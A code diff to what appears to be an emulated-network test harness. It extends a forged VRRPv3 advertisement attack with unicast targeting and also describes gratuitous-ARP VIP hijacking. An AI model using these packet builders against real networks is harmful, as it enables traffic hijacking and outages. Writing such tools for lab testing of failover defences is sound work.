@@ -24,8 +24,9 @@ in the root network namespace: its packets only ever leave an emulated host's ow
 
     vrrp      forged VRRPv3 adverts for --vrid, --priority (254) claiming --vip, sent to
               224.0.0.18 (IP proto 112, TTL 255, RFC 5798 checksum with the IPv4 pseudo-header)
-              every --advert-int for --duration, IP source --src (the attacker's own address, or a
-              spoofed load balancer's), Ethernet source the attacker's own MAC.
+              or unicast to --dst / --dst-mac, every --advert-int for --duration, IP source --src
+              (the attacker's own address, or a spoofed load balancer's), Ethernet source the
+              attacker's own MAC.
 
     garp      gratuitous ARP (request, sender = target = --vip, sender MAC = the attacker's) to
               broadcast, --count times every --interval: neighbours with an entry for the VIP
@@ -86,8 +87,9 @@ class Stopped(Exception):
 
 # -- pure packet builders --------------------------------------------------------------------------
 def vrrp_advert(src_ip: str, vrid: int, priority: int, vips: list[str], advert_int: float,
-                src_mac: str) -> Ether:
-    """A VRRPv3 advertisement frame (RFC 5798), checksum computed and frozen.
+                src_mac: str, dst_ip: str = VRRP_GROUP, dst_mac: str = VRRP_GROUP_MAC) -> Ether:
+    """A VRRPv3 advertisement frame (RFC 5798), checksum computed and frozen: multicast to the
+    VRRP group, or unicast (dst_ip, dst_mac) as keepalived's unicast_peer sends it.
 
     advert_int in seconds; the header carries centiseconds in 12 bits (0.01 .. 40.95 s)."""
     centis = int(round(advert_int * 100))
@@ -95,8 +97,8 @@ def vrrp_advert(src_ip: str, vrid: int, priority: int, vips: list[str], advert_i
         raise AttackError(f"advert interval {advert_int} s does not fit VRRPv3 (0.01 .. 40.95 s)")
     if not 1 <= vrid <= 255 or not 1 <= priority <= 255:
         raise AttackError("vrid must be 1..255 and priority 1..255")
-    frame = (Ether(src=src_mac, dst=VRRP_GROUP_MAC)
-             / IP(src=src_ip, dst=VRRP_GROUP, ttl=255, proto=VRRP_PROTO)
+    frame = (Ether(src=src_mac, dst=dst_mac)
+             / IP(src=src_ip, dst=dst_ip, ttl=255, proto=VRRP_PROTO)
              / VRRPv3(version=3, type=1, vrid=vrid, priority=priority, adv=centis, addrlist=list(vips)))
     return Ether(bytes(frame))  # as it will be on the wire (checksums and lengths filled in)
 
@@ -407,11 +409,13 @@ def send_paced(iface: str, paced: Paced, duration: float, report: Report) -> Non
         opt("--vrid", type=int, required=True),
         opt("--priority", type=int, default=254),
         opt("--vip", type=_ipv4, action="append", required=True, help="claimed address (repeatable)"),
-        opt("--advert-int", type=_interval, default=0.1, help="seconds between adverts"))
+        opt("--advert-int", type=_interval, default=0.1, help="seconds between adverts"),
+        opt("--dst", type=_ipv4, default=VRRP_GROUP, help="IP destination (default: the VRRP group)"),
+        opt("--dst-mac", default=VRRP_GROUP_MAC, help="Ethernet destination (default: the group's)"))
 def attack_vrrp(args, report: Report) -> Paced:
     mac = own_mac(args.iface)
-    frame = vrrp_advert(args.src, args.vrid, args.priority, args.vip, args.advert_int, mac)
-    fields = {"eth_src": mac, "eth_dst": VRRP_GROUP_MAC, "ip_src": args.src, "ip_dst": VRRP_GROUP,
+    frame = vrrp_advert(args.src, args.vrid, args.priority, args.vip, args.advert_int, mac, args.dst, args.dst_mac)
+    fields = {"eth_src": mac, "eth_dst": args.dst_mac, "ip_src": args.src, "ip_dst": args.dst,
               "ttl": frame[IP].ttl, "vrid": args.vrid, "priority": args.priority,
               "addrlist": list(args.vip), "adv_centiseconds": frame[VRRPv3].adv,
               "chksum": f"0x{frame[VRRPv3].chksum:04x}", "checksum_ok": vrrp_checksum_ok(frame)}
